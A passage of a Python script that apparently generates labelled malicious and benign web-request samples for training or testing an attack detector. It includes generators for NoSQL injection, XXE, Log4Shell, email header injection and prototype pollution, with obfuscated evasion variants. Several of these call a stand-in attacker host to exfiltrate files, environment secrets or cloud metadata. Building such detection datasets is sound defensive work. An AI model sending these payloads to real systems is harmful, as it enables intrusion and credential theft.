        '{"%s": {"$ne": null}}' % field,
        "true, $where: '1 == 1'",
        "\"; return(this.role=='admin');//",
    ]
    if not ev:
        return S(ch(js))
    evs = [
        "' ||\t1==1//",
        "'\n|| 1==1 //",
        '{"\\u0024ne": null}',
        '{"$regex": "^.{0,}$"}',
        '{"$where": "this.role.indexOf(String.fromCharCode(97))>-1"}',
        '{"$expr": {"$eq": [1, 1]}}',
        "'\u00a0|| '1'=='1",
        '{"$wh\\u0065re": "sl\\u0065ep(5000)"}',
        "\"||this.password[0]>'\\x61'||\"",
        '{"%s":{"$regex":"^(?=.*)"}}' % field,
    ]
    return S(ch(evs))


def xxe_doc(ev=False):
    ent = ch(["xxe", "ent", "x", "data", "f", "foo"])
    root = ch(["root", "order", "data", "request", "user", "item", "feed"])
    h = atk_host()
    target = ch(
        [
            "file:///etc/passwd",
            "file:///etc/hostname",
            "file:///c:/windows/win.ini",
            "http://169.254.169.254/latest/meta-data/",
            "file:///proc/self/environ",
            "php://filter/convert.base64-encode/resource=/var/www/html/config.php",
            "http://%s/x" % h,
            "expect://id",
            "netdoc:///etc/passwd",
            "jar:http://%s/e.jar!/x.dtd" % h,
            "file:///home/",
        ]
    )
    decl = ch(['<?xml version="1.0" encoding="UTF-8"?>', '<?xml version="1.0"?>', ""])
    if not ev:
        k = R.randrange(8)
        if k == 0:
            return '%s<!DOCTYPE %s [<!ENTITY %s SYSTEM "%s">]><%s>&%s;</%s>' % (
                decl,
                root,
                ent,
                target,
                root,
                ent,
                root,
            )
        if k == 1:
            return '%s<!DOCTYPE %s [<!ENTITY %% ext SYSTEM "http://%s/ev.dtd"> %%ext;]><%s/>' % (decl, root, h, root)
        if k == 2:
            return (
                '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
                '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><lolz>&d;</lolz>'
            )
        if k == 3:
            return '<%s xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="%s"/></%s>' % (
                root,
                target,
                root,
            )
        if k == 4:
            return (
                '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY %s SYSTEM "%s">]>'
                '<svg xmlns="http://www.w3.org/2000/svg" width="128" height="128"><text x="4" y="20">&%s;</text></svg>'
            ) % (ent, target, ent)
        if k == 5:
            return (
                '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><!DOCTYPE x [<!ENTITY %s SYSTEM "%s">]>'
                "<soapenv:Body><getOrder><id>&%s;</id></getOrder></soapenv:Body></soapenv:Envelope>"
            ) % (ent, target, ent)
        if k == 6:
            return ('%s<!DOCTYPE %s SYSTEM "http://%s/x.dtd"><%s>test</%s>') % (decl, root, h, root, root)
        return (
            '%s<!DOCTYPE %s [<!ENTITY %% file SYSTEM "file:///etc/hostname"><!ENTITY %% dtd SYSTEM "http://%s/oob.dtd">%%dtd;%%send;]><%s/>'
            % (decl, root, h, root)
        )
    k = R.randrange(10)
    if k == 0:
        return '<!DOCTYPE %s PUBLIC "-//%s//DTD X//EN" "http://%s/x.dtd"><%s/>' % (root, low(4).upper(), h, root)
    if k == 1:
        return '%s\n<!DOCTYPE\n\t%s\n\t[\n\t<!ENTITY\n\t%s\n\tSYSTEM\n\t"%s"\n\t>\n]>\n<%s>&%s;</%s>' % (
            decl,
            root,
            ent,
            target,
            root,
            ent,
            root,
        )
    if k == 2:
        x = '<!DOCTYPE %s [<!ENTITY %s SYSTEM "%s">]><%s>&%s;</%s>' % (root, ent, target, root, ent, root)
        return '<?xml version="1.0" encoding="UTF-7"?>' + x.encode("utf-7").decode("ascii").replace(
            "<", "+ADw-"
        ).replace(">", "+AD4-")
    if k == 3:
        return '<!DOCTYPE %s [<!ENTITY %% a "&#x3C;!ENTITY &#x25; b SYSTEM &#x27;%s&#x27;&#x3E;">%%a;%%b;]><%s/>' % (
            root,
            target,
            root,
        )
    if k == 4:
        return '<!DOCTYPE %s [<!-- %s --><!ENTITY %s SYSTEM "%s">]><%s>&%s;</%s>' % (
            root,
            low(8),
            ent,
            target,
            root,
            ent,
            root,
        )
    if k == 5:
        return (
            '<!DOCTYPE d [<!ENTITY %% s "<![CDATA["><!ENTITY %% f SYSTEM "file:///etc/passwd"><!ENTITY %% e "]]>">'
            '<!ENTITY %% dtd SYSTEM "http://%s/wrap.dtd">%%dtd;]><d>&all;</d>' % h
        )
    if k == 6:
        return (
            '<!DOCTYPE m [<!ENTITY %% local SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">'
            '<!ENTITY %% ISOamso \'<!ENTITY &#x25; f SYSTEM "file:///etc/passwd"><!ENTITY &#x25; e "<!ENTITY &#x26;#x25; x SYSTEM &#x27;file:///nope/&#x25;f;&#x27;>">&#x25;e;&#x25;x;\'>%%local;]><m/>'
        )
    if k == 7:
        return '<?xml version="1.0"?><!DOCTYPE   %s   [   <!ENTITY    %s    SYSTEM    "%s"   >   ]><%s>&%s;</%s>' % (
            root,
            ent,
            target,
            root,
            ent,
            root,
        )
    if k == 8:
        return (
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="%s" width="10" height="10"/></svg>'
            % target
        )
    return (
        '<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE %s [<!ELEMENT %s ANY ><!ENTITY %s SYSTEM "%s" >]><%s>&%s;</%s>'
        % (root, root, ent, target, root, ent, root)
    )


def g_xxe(pl, ev):
    ctx = {}
    if pl == "multipart":
        fn = ch(["import.xml", "logo.svg", "feed.xml", "invoice.xml", "sitemap.xml", "avatar.svg"])
        ctx = {
            "mp": "content" if R.random() < 0.8 else "field",
            "mp_filename": fn,
            "mp_ctype": "image/svg+xml" if fn.endswith(".svg") else ch(["application/xml", "text/xml"]),
        }
    if ev and pl in ("json", "form", "query") and R.random() < 0.35:
        # base64-wrapped document, decoded by the application
        return S(
            b64(xxe_doc(False), pad=R.random() < 0.5),
            param=ch(["xml_b64", "document_base64", "payload_b64", "content_base64"]),
            **ctx,
        )
    return S(xxe_doc(ev), **ctx)


def g_log4shell(pl, ev):
    h = atk_host()
    proto = ch(["ldap", "rmi", "dns", "ldaps", "iiop", "http", "nis", "nds", "corba"])
    path = ch(["a", "Exploit", "o", low(6), "Basic/Command/Base64/" + b64("touch /tmp/pwned", pad=False)])
    if not ev:
        pool = [
            "${jndi:%s://%s:1389/%s}" % (proto, h, path),
            "${jndi:ldap://%s/%s}" % (h, path),
            "${jndi:rmi://%s:1099/%s}" % (h, path),
            "${jndi:dns://%s/%s}" % (h, low(5)),
            "${jndi:ldap://${env:USER}.%s/a}" % h,
            "${jndi:ldap://%s/${sys:java.version}}" % h,
            "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.%s}" % h,
            "${jndi:ldap://${hostName}.%s/x}" % h,
            "${jndi:ldaps://%s/%s}" % (h, path),
            "${jndi:ldap://%s/${java:version}}" % h,
            "Mozilla/5.0 ${jndi:ldap://%s/ua}" % h,
            "${jndi:iiop://%s/%s}" % (h, path),
        ]
        return S(ch(pool))
    pool = [
        "${${lower:j}ndi:${lower:l}dap://%s/a}" % h,
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://%s/x}" % h,
        "${jNdI:LdAp://%s/%s}" % (h, path),
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//%s/a}" % h,
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://%s/a}" % h,
        "${jndi:${lower:L}${lower:D}AP://%s/a}" % h,
        "${${sys:nope:-j}ndi:ldap://%s/a}" % h,
        "${j${k8s:k5:-ND}i:ldap://%s/a}" % h,
        "${jndi:ldap://127.0.0.1#%s/a}" % h,
        "${${upper:j}ndi:rmi://%s/x}" % h,
        "${j${::-n}di:dns://%s/x}" % h,
        "${${lower:${lower:jndi}}:${lower:rmi}://%s/x}" % h,
        "${jndi:${lower:d}n${lower:s}://%s/x}" % h,
        "${${main:\\k5:-Jnd}${spring:k5:-i}:ldap://%s/a}" % h,
        "$%%7Bjndi:ldap://%s/a%%7D" % h,
        "${%%6a%%6e%%64%%69:ldap://%s/a}" % h,
    ]
    p = ch(pool)
    return S(p, "raw" if "%" in p else "std")


def g_mail_injection(pl, ev):
    victim = email()
    evil = "%s@%s" % (
        ch(["spam", "x", "promo", "attacker"]),
        ch(["evil.test", "attacker.example", "mailer.example.net"]),
    )
    if not ev:
        pool = [
            "%s\r\nBcc: %s" % (victim, evil),
            "%s\nCc: %s, %s" % (victim, evil, "list@evil.test"),
            "Order question\r\nBcc: %s" % evil,
            "%s\r\nReply-To: %s" % (victim, evil),
            "%s>\r\nRCPT TO:<%s>\r\nDATA\r\nSubject: hi\r\n\r\nbuy now\r\n.\r\nQUIT" % (victim, evil),
            'INBOX\r\nA002 LIST "" "*"',
            'INBOX"\r\nA003 DELETE INBOX',
            "1:*\r\nA004 FETCH 1:* (BODY[])",
            '"%s" <%s>\r\nTo: %s' % (full_name(), victim, evil),
            '"a\\" -OQueueDirectory=/tmp -X/var/www/html/x.php "@evil.test',
            "jdoe\r\nDELE 1",
            'Hello\r\nContent-Type: text/html\r\n\r\n<a href="http://%s/">verify</a>' % atk_host(),
            "%s\r\nBcc: %s\r\nSubject: you won" % (victim, evil),
            "support@example.com\r\nMAIL FROM:<%s>" % evil,
            "Feedback\r\nX-Mailer: mass\r\nBcc: %s" % evil,
        ]
        return S(ch(pool))
    pool = [
        S("%s\nbCc: %s" % (victim, evil)),
        S("%s%%0d%%0abcc:%%20%s" % (victim, evil), "raw"),
        S("%s\r\n Bcc: %s" % (victim, evil)),
        S("%s\u560d\u560aBcc: %s" % (victim, evil)),
        S("=?UTF-8?Q?Hi=0D=0ABcc:_%s?=" % evil),
        S("%s%%0ABCC:%s" % (victim, evil), "raw"),
        S("%s\r\nBcc:\t%s" % (victim, evil)),
        S("INBOX\r\n\tA9 DELETE INBOX"),
        S(
            "%s\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\n--zz\r\nContent-Type: text/html\r\n\r\n<b>click</b>\r\n--zz--"
            % victim
        ),
        S("%s\nCC:%s\nBCC:%s" % (victim, evil, evil)),
        S("%s%%250d%%250aBcc:%s" % (victim, evil), "raw"),
        S("subject\u0085Bcc: %s" % evil),
    ]
    return ch(pool)


def g_prototype_pollution(pl, ev):
    prop = ch(["isAdmin", "admin", "role", "polluted", "debug", "allowedOrigins", "shell", "NODE_OPTIONS"])
    val = ch(["true", "1", "admin", "yes"])
    gadgets = [
        ("outputFunctionName", "x;process.mainModule.require('child_process').execSync('id');s"),
        ("sourceURL", "\u2028\u2029alert(1)"),
        ("shell", "/proc/self/exe"),
        ("NODE_OPTIONS", "--require /proc/self/environ"),
        ("execArgv", "--eval=require('child_process').execSync('id')"),
    ]
    if pl in ("query_key", "form") or (pl == "multipart" and R.random() < 0.6):
        if not ev:
            k = ch(
                [
                    "__proto__[%s]" % prop,
                    "__proto__.%s" % prop,
                    "constructor[prototype][%s]" % prop,
                    "a[__proto__][%s]" % prop,
                    "user[__proto__][%s]" % prop,
                    "__proto__[%s]" % gadgets[0][0],
                ]
            )
            v = gadgets[0][1] if gadgets[0][0] in k else val
        else:
            k = ch(
                [
                    "__pro__proto__to__[%s]" % prop,
                    "constructor.prototype.%s" % prop,
                    "__proto__%%5B%s%%5D" % prop,
                    '["__proto__"][%s]' % prop,
                    "__proto__[%s][]" % prop,
                    "constructor[prototype][%s]" % gadgets[1][0],
                ]
            )
            v = gadgets[1][1] if gadgets[1][0] in k else val
        if pl == "multipart":
            return S(
                k,
                mp_parts=[
                    ("csrf_token", rstr(32), None, None),
                    (PH, v, None, None),
                    ("display_name", full_name(), None, None),
                ],
            )
        m = "raw" if "%" in k else "std"
        return S(k, m, val=v, as_key=True)
    if pl == "json_key":
        if not ev:
            key = ch(["__proto__", "__proto__", "constructor"])
        else:
            key = ch(["__proto__", "constructor", "__pro__proto__to__"])
        inner = {prop: True} if R.random() < 0.5 else dict([ch(gadgets)])
        v = {"prototype": inner} if key == "constructor" else inner
        return S(
            key, doc=lambda K, v=v: ch([{K: v}, {"settings": {K: v}}, {"user": {"name": full_name(), K: v}}]), val=v
        )
    if pl == "json":
        if R.random() < 0.5:
            pth = ch(
                ["__proto__.%s" % prop, "constructor.prototype.%s" % prop, "__proto__[%s]" % prop]
                if not ev
                else [
                    "__pro__proto__to__.%s" % prop,
                    "constructor['prototype'].%s" % prop,
                    "['__proto__']['%s']" % prop,
                ]
            )
            return S(pth, doc=lambda P: {"op": "set", "path": P, "value": True})
        obj = {"__proto__": {prop: True}} if not ev else {"constructor": {"prototype": dict([ch(gadgets)])}}
        return S(json.dumps(obj), param=ch(["settings", "config", "patch", "options"]))
    # query, path, header, cookie: JSON text or dotted paths
    if not ev:
        pool = [
            '{"__proto__":{"%s":%s}}' % (prop, "true"),
            "__proto__.%s" % prop,
            "constructor.prototype.%s" % prop,
            '{"constructor":{"prototype":{"%s":true}}}' % prop,
            "__proto__[%s]=%s" % (prop, val),
        ]
    else:
        pool = [
            '{"__pro__proto__to__":{"%s":1}}' % prop,
            '{"\\u005f\\u005fproto\\u005f\\u005f":{"%s":true}}' % prop,
            "__proto__%%2e%s" % prop,
            '{"__proto__":{"%s":"%s"}}' % gadgets[0],
            "constructor%%5Bprototype%%5D%%5B%s%%5D" % prop,
        ]
    p = ch(pool)
    m = "raw" if "%" in p else "std"
    extra = {}
    if pl == "query" and not p.startswith("{"):
        extra = {"param": "path", "extra": [("value", val)]}
    if pl == "cookie" and p.startswith("{") and R.random() < 0.6:
        extra = {"raw_cookie_value": "j%3A" + urllib.parse.quote(p, safe="")}
    if pl == "path":
        extra = {"pathslot": ch(["/api/v1/settings/{p}", "/api/v1/config/{p}/true", "/api/v2/profile/{p}"])}
    return S(p, m, **extra)


GEN = {
    "sqli": g_sqli,
    "xss": g_xss,
    "cmdi": g_cmdi,
    "path_traversal": g_path_traversal,
    "ssrf": g_ssrf,
    "ssti": g_ssti,
    "code_injection": g_code_injection,
    "php_injection": g_php_injection,
    "rfi": g_rfi,
    "crlf": g_crlf,
    "ldapi": g_ldapi,
    "nosqli": g_nosqli,
    "xxe": g_xxe,
    "log4shell": g_log4shell,
    "mail_injection": g_mail_injection,
    "prototype_pollution": g_prototype_pollution,
}

PARAMS = {
    "sqli": ["id", "q", "sort", "order", "category", "user_id", "product_id", "status", "search", "ref", "filter"],
    "xss": [
        "q",
        "name",
        "comment",
        "message",
        "title",
        "redirect",
        "callback",
        "display_name",
        "bio",
        "search",
        "return_url",
    ],
    "cmdi": [
        "host",
        "ip",
        "domain",
        "target",
        "filename",
        "archive",
        "format",
        "hostname",
        "device",
        "server",
        "interface",
    ],
    "path_traversal": [
        "file",
        "path",
        "template",
        "download",
        "doc",
        "page",
        "image",
        "attachment",
        "view",
        "src",
        "asset",
    ],
    "ssrf": [
        "url",
        "callback",
        "webhook",
        "image_url",
        "feed",
        "redirect_uri",
        "target",
        "endpoint",
        "avatar_url",
        "proxy",
        "link",
        "source",
    ],
    "ssti": [
        "name",
        "template",
        "greeting",
        "subject",
        "preview",
        "message",
        "title",
        "signature",
        "footer",
        "first_name",
    ],
    "code_injection": [
        "expr",
        "formula",
        "calc",
        "filter",
        "script",
        "condition",
        "rule",
        "transform",
        "expression",
        "sort_by",
        "code",
    ],
    "php_injection": ["data", "cb", "input", "filter", "content", "action", "arg", "func", "value", "tpl"],
    "rfi": ["page", "include", "module", "lang", "template", "file", "theme", "plugin", "view", "layout"],
    "crlf": ["redirect", "next", "lang", "return_url", "callback", "continue", "locale", "ref", "url", "dest"],
    "ldapi": ["user", "uid", "username", "cn", "search", "group", "login", "member", "mail", "ou"],
    "nosqli": ["username", "password", "filter", "where", "q", "email", "token", "user", "query", "selector"],
    "xxe": ["xml", "data", "payload", "import", "feed", "document", "soap", "config", "svg", "manifest"],
    "log4shell": ["q", "username", "search", "ref", "session", "name", "device", "lang", "id", "trace"],
    "mail_injection": ["email", "to", "subject", "name", "from", "reply_to", "contact", "mailbox", "recipient", "cc"],
    "prototype_pollution": [
        "settings",
        "config",
        "prefs",
        "options",
        "path",
        "merge",
        "data",
        "patch",
        "meta",
        "attrs",
    ],
}
ENDPOINTS = {
    "sqli": ["/search", "/api/v2/orders", "/api/v1/products", "/reports/sales", "/api/v1/customers", "/catalog/items"],
    "xss": ["/search", "/api/v1/comments", "/guestbook", "/api/v2/profile", "/feedback", "/blog/posts/{id}/comments"],
    "cmdi": [
        "/api/v1/tools/ping",
        "/admin/diagnostics",
        "/api/v1/convert",
        "/api/v1/dns/lookup",
        "/export",
        "/api/v1/network/traceroute",
    ],
    "path_traversal": ["/download", "/api/v1/files", "/static", "/view", "/api/v1/templates/render", "/images"],
    "ssrf": ["/api/v1/webhooks", "/api/v1/fetch", "/proxy", "/api/v1/import/url", "/preview", "/api/v2/integrations"],
    "ssti": [
        "/api/v1/templates/preview",
        "/greeting",
        "/api/v1/emails/render",
        "/profile/update",
        "/api/v1/notifications/preview",
        "/invoice/render",
    ],
    "code_injection": [
        "/api/v1/rules/evaluate",
        "/calc",
        "/api/v1/reports/formula",
        "/api/v1/transform",
        "/api/v1/sandbox/run",
        "/api/v1/filters",
    ],
    "php_injection": [
        "/index.php",
        "/api.php",
        "/admin/settings.php",
        "/wp-admin/admin-ajax.php",
        "/cart.php",
        "/upload.php",
    ],
    "rfi": ["/index.php", "/page.php", "/main.php", "/portal/view.php", "/cms/index.php", "/show.php"],
    "crlf": ["/redirect", "/login", "/logout", "/set-language", "/api/v1/track", "/oauth/callback"],
    "ldapi": [
        "/login",
        "/api/v1/directory/search",
        "/users/lookup",
        "/api/v1/groups/members",
        "/auth/ldap",
        "/phonebook",
    ],
    "nosqli": [
        "/api/v1/login",
        "/api/v1/users",
        "/api/v1/products/search",
        "/auth/token",
        "/api/v2/sessions",
        "/api/v1/orders/query",
    ],
    "xxe": ["/api/v1/import", "/soap/OrderService", "/api/v1/feeds", "/xmlrpc", "/api/v1/documents", "/saml/acs"],
    "log4shell": ["/api/v1/login", "/search", "/api/v2/events", "/", "/api/v1/session", "/api/v1/telemetry"],
    "mail_injection": [
        "/contact",
        "/api/v1/newsletter/subscribe",
        "/api/v1/share/email",
        "/password/forgot",
        "/api/v1/mail/folders",
        "/support/ticket",
    ],
    "prototype_pollution": [
        "/api/v1/settings",
        "/api/v1/users/{id}/preferences",
        "/api/v1/config/merge",
        "/api/v2/profile",
        "/api/v1/widgets",
        "/api/v1/cart",
    ],
}
PATHSLOT_GENERIC = ["/api/v1/items/{p}", "/users/{p}/profile", "/p/{p}", "/api/v2/orders/{p}", "/api/v1/lookup/{p}"]
PATHSLOT = {
    "sqli": ["/api/v2/orders/{p}", "/api/v1/products/{p}", "/users/{p}/profile", "/catalog/{p}/items"],
    "xss": ["/search/{p}", "/u/{p}", "/tags/{p}", "/blog/{p}"],
    "cmdi": ["/api/v1/tools/ping/{p}", "/api/v1/dns/{p}", "/convert/{p}", "/diagnostics/host/{p}"],
    "path_traversal": ["/download/{p}", "/static/{p}", "/api/v1/files/{p}", "/images/{p}"],
    "ssrf": ["/proxy/{p}", "/api/v1/preview/{p}", "/img/{p}", "/fetch/{p}"],
    "rfi": ["/index.php/{p}", "/page/{p}", "/cms/module/{p}"],
    "crlf": ["/redirect/{p}", "/r/{p}", "/lang/{p}", "/{p}"],
    "ldapi": ["/api/v1/directory/users/{p}", "/people/{p}", "/users/{p}/profile"],
    "mail_injection": ["/api/v1/newsletter/subscribe/{p}", "/unsubscribe/{p}", "/api/v1/mail/folders/{p}"],
    "log4shell": ["/api/v1/items/{p}", "/search/{p}", "/users/{p}/profile", "/{p}"],
    "ssti": ["/greeting/{p}", "/hello/{p}", "/api/v1/templates/{p}/preview"],
    "xxe": ["/api/v1/import/{p}", "/soap/{p}", "/feeds/{p}"],
}
HDRS_GENERIC = [
    "X-Forwarded-Host",
    "Referer",
    "X-Api-Version",
    "X-Forwarded-For",
    "X-Request-Id",
    "X-Client-Ref",
    "X-Correlation-Id",
    "X-Custom-Header",
    "X-Device-Id",
    "X-Locale",
    "X-Tenant-Id",
]
HDRS = {
    "ssrf": ["X-Forwarded-Host", "X-Callback-Url", "X-Webhook-Url", "Referer", "X-Original-URL", "X-Import-Source"],
    "crlf": ["X-Forwarded-Host", "Referer", "X-Return-To", "X-Locale", "X-Forwarded-Proto", "X-Redirect-To"],
    "path_traversal": ["X-Original-URL", "X-Rewrite-URL", "X-Template", "X-File-Path", "X-Asset"],
    "log4shell": [
        "X-Api-Version",
        "X-Forwarded-For",
        "Referer",
        "X-Request-Id",
        "X-Forwarded-Host",
        "X-Client-Ip",
        "X-Device-Id",
    ],
    "mail_injection": ["X-Reply-To", "X-Notify-Email", "X-User-Email", "X-Mail-Subject"],
    "sqli": ["X-Forwarded-For", "X-Tenant-Id", "X-Api-Version", "Referer", "X-Account-Id", "X-Sort"],
    "xss": ["Referer", "X-Forwarded-Host", "X-Display-Name", "X-Client-Ref"],
    "xxe": ["X-Xml-Payload", "X-Soap-Body", "X-Import-Data"],
    "ssti": ["X-Template", "X-Greeting", "X-Preview-Name", "X-Client-Ref"],
    "nosqli": ["X-Filter", "X-User-Query", "X-Selector"],
    "prototype_pollution": ["X-Config-Override", "X-Prefs", "X-Feature-Flags"],
    "ldapi": ["X-Remote-User", "X-Forwarded-User", "X-Ldap-Filter"],
}
COOKIES_GENERIC = [
    "prefs",
    "lang",
    "tracking_id",
    "cart",
    "last_search",
    "redirect_to",
    "user_pref",
    "ref",
    "theme_cfg",
    "ab_group",
]
COOKIES = {
    "sqli": ["tracking_id", "cart_id", "user_id", "lang", "ab_group"],
    "crlf": ["redirect_to", "lang", "return_url", "locale"],
    "path_traversal": ["template", "theme", "lang_file", "skin"],
    "rfi": ["lang", "theme", "skin", "module"],
    "prototype_pollution": ["prefs", "settings", "ui_state"],
    "nosqli": ["filter", "session_q", "user"],
    "mail_injection": ["newsletter_email", "last_email", "contact"],
    "ssrf": ["avatar_src", "return_url", "webhook", "feed_url"],
}


# ==========================================================================
# BENIGN
# ==========================================================================
# Each generator returns (placement, payload, ctx, hard)


def wpick(weights):
    """weights: list of (item, weight)"""
    tot = sum(w for _, w in weights)
    x = R.random() * tot
    for item, w in weights:
        x -= w
        if x <= 0:
            return item
    return weights[-1][0]


def slug():
    return "-".join(
        R.sample(
            [
                "spring",
                "sale",
                "guide",
                "how",
                "to",
                "choose",
                "best",
                "running",
                "shoes",
                "coffee",
                "setup",
                "home",
                "office",
                "tips",
                "2024",
                "review",
                "new",
                "arrivals",
                "winter",
            ],
            R.randint(2, 4),
        )
    )


SENT_EN = [
    "Thanks for the quick delivery, everything arrived in perfect condition.",
    "The sizing runs a little small, so I'd recommend ordering one size up.",
    "Customer service was helpful when I needed to change my shipping address.",
    "I've been using this for three months now and it still works like new.",
    "Could you let me know when the blue version is back in stock?",
    "Please drop me a line when the order ships; I'll be travelling next week.",
    "The script of the play was brilliant, and the union of music and dance felt effortless.",
    "I'd like to update my billing address — select 'home' as the default, please.",
    "Alert: the tracking page says delivered, but the parcel isn't at my door.",
    "Can I execute the return without the original box?",
    "If 1 of the 2 items is missing, do I get a partial refund or a replacement?",
    "She whispered 'or else' and walked off stage — what a scene!",
    "Battery life is roughly 9–10 hours with Wi-Fi on (not the 14 advertised).",
    "My order #%s was charged twice; can you refund the duplicate?" % digits(6),
    "We're planning a team offsite for 25 people on the 14th & 15th of June.",
    "The app crashes when I rotate the screen on my Pixel; steps to reproduce are below.",
    "Great value for money. Would buy again :)",
    "It's not perfect, but at this price point it's hard to complain.",
    "Delete my account and all associated data, as per GDPR Article 17.",
    "The instructions say to insert tab A into slot B, but slot B doesn't exist.",
    "Shipping to Northern Ireland took 11 days; is that normal?",
    "Kindly confirm whether the 50% discount applies to items already on sale.",
    "The union rep will join the call at 3 pm; please send the agenda beforehand.",
    "Our cat loves it — she sleeps on it all day, from 9 to 5, like a true executive.",
]
SENT_DE = [
    "Die Lieferung kam pünktlich an, aber die Verpackung war leicht beschädigt.",
    "Könnten Sie mir bitte eine Rechnung mit ausgewiesener Mehrwertsteuer schicken?",
    "Das Produkt entspricht genau der Beschreibung, ich bin sehr zufrieden.",
    "Leider passt die Größe nicht; wie funktioniert der Umtausch?",
]
SENT_FR = [
    "Le colis est arrivé en avance, merci beaucoup pour votre réactivité !",
    "Je n'arrive pas à me connecter à mon compte depuis la mise à jour d'hier.",
    "La qualité du tissu est excellente, mais la couleur est un peu plus foncée qu'en photo.",
    "Pouvez-vous m'indiquer les délais de livraison pour la Belgique ?",
]
SENT_ES = [
    "El pedido llegó completo y bien embalado, ¡muchas gracias!",
    "¿Es posible cambiar la dirección de envío después de realizar el pago?",
    "La batería dura menos de lo esperado, pero el sonido es espectacular.",
    "Me gustaría saber si hacen envíos a Canarias y cuánto cuesta.",
]
SENT_PT = [
    "Produto excelente, chegou antes do prazo e muito bem embalado.",
    "Não consegui aplicar o cupom de desconto no carrinho, podem ajudar?",
    "A cor é um pouco diferente da foto, mas gostei mesmo assim.",
]
SENT_JA = [
    "商品は予定より早く届きました。梱包も丁寧でとても満足しています。",
    "サイズが少し小さかったので、交換をお願いできますか？",
    "説明書が英語のみだったので、日本語版があると助かります。",
]
SENT_ZH = [
    "物流很快，包装完好，质量比预期的还要好。",
    "请问这款耳机支持蓝牙5.3吗？",
    "客服态度很好，问题很快就解决了。",
]
SENT_RU = [
    "Заказ пришёл вовремя, всё в целости и сохранности. Спасибо!",
    "Подскажите, пожалуйста, можно ли оплатить заказ при получении?",
    "Качество отличное, но размер маломерит — берите на размер больше.",
]
SENT_AR = ["وصل الطلب في الوقت المحدد والمنتج ممتاز، شكرًا لكم.", "هل يمكنني تغيير عنوان الشحن بعد الدفع؟"]
SENT_HI = ["डिलीवरी समय पर हुई और पैकेजिंग भी अच्छी थी।", "क्या इस उत्पाद पर कोई वारंटी है?"]
SENT_KO = ["배송이 빠르고 제품 상태도 아주 좋습니다.", "사이즈 교환은 어떻게 신청하나요?"]
SENT_PL = [
    "Przesyłka dotarła szybko, produkt zgodny z opisem. Polecam!",
    "Czy mogę zwrócić towar bez oryginalnego opakowania?",
]
SENT_TR = ["Ürün çok kaliteli, kargo da hızlıydı. Teşekkürler!", "Faturayı şirket adına düzenleyebilir misiniz?"]
LANG_POOLS = [
    (SENT_EN, 8),
    (SENT_DE, 2),
    (SENT_FR, 2),
    (SENT_ES, 2),
    (SENT_PT, 1),
    (SENT_JA, 1),
    (SENT_ZH, 1),
    (SENT_RU, 1),
    (SENT_AR, 1),
    (SENT_HI, 1),
    (SENT_KO, 1),
    (SENT_PL, 1),
    (SENT_TR, 1),
]
TRICKY_WORDS = [
    "select",
    "union",
    "drop",
    "script",
    "alert",
    "execute",
    "delete",
    "insert",
    " or ",
    "'",
    "&",
    "<",
    "1=",
]


def prose(nmin=1, nmax=4):
    pool = wpick(LANG_POOLS)
    n = min(len(pool), R.randint(nmin, nmax))
    return " ".join(R.sample(pool, n))


def sentence():
    return ch(SENT_EN)


def is_tricky(s):
    t = s.lower()
    return any(w in t for w in TRICKY_WORDS)


# ---------------- rich text ----------------
def html_block():
    k = R.randrange(18)
    site = ch(SITES)
    if k == 0:
        return "<p>%s</p>" % sentence().replace("&", "&amp;")
    if k == 1:
        return "<p>Check out our <strong>%s</strong> — now <em>%d%% off</em> until %s.</p>" % (
            ch(PRODUCTS).replace('"', "&quot;"),
            ch([10, 15, 20, 30, 50]),
            iso_date(),
        )
    if k == 2:
        return "<h2>%s</h2>" % ch(
            [
                "Shipping &amp; Returns",
                "What's new in 5.12",
                "Care instructions",
                "FAQ",
                "Meet the team",
                "Größentabelle",
            ]
        )
    if k == 3:
        return (
            '<p>Read the <a href="https://%s/%s?utm_source=newsletter&amp;utm_medium=email" target="_blank" rel="noopener">full guide</a> for details.</p>'
            % (site, slug())
        )
    if k == 4:
        return "<ul>%s</ul>" % "".join(
            "<li>%s</li>"
            % ch(
                [
                    "Free shipping over $50",
                    "30-day returns",
                    "2–4 business days",
                    "Machine washable at 30°C",
                    "Made in Portugal",
                    "Includes USB-C cable",
                    "Gift wrapping available",
                ]
            )
            for _ in range(R.randint(2, 4))
        )
    if k == 5:
        return '<img src="https://cdn.%s/images/%s.jpg" alt="%s" width="%d" height="%d" loading="lazy">' % (
            site,
            slug(),
            ch(["Hero image", "Product photo", "Team at the offsite"]),
            ch([640, 800, 1200]),
            ch([360, 450, 675]),
        )
    if k == 6:
        return "<blockquote><p>%s</p><cite>%s</cite></blockquote>" % (sentence(), full_name())
    if k == 7:
        return "<table><thead><tr><th>Size</th><th>Chest (cm)</th><th>Length (cm)</th></tr></thead><tbody><tr><td>M</td><td>96–101</td><td>71</td></tr><tr><td>L</td><td>102–107</td><td>73</td></tr></tbody></table>"
    if k == 8:
        return '<p style="text-align: center;"><span style="color: #%s;">%s</span></p>' % (
            hexs(6),
            ch(["Limited edition", "New season", "Back in stock!"]),
        )
    if k == 9:
        return ch(["<hr>", "<p><br></p>", "<p>&nbsp;</p>"])
    if k == 10:
        return (
            '<figure class="image"><img src="https://images.%s/%s.webp" alt=""><figcaption>%s</figcaption></figure>'
            % (site, low(10), ch(["Photo: Jane Doe", "Our Lyon store", "Prototype v2"]))
        )
    if k == 11:
        e = email()
        return (
            '<p>Questions? Email <a href="mailto:%s">%s</a> or call <a href="tel:+1555010%s">+1 555-010%s</a>.</p>'
            % (e, e, digits(4), digits(1))
        )
    if k == 12:
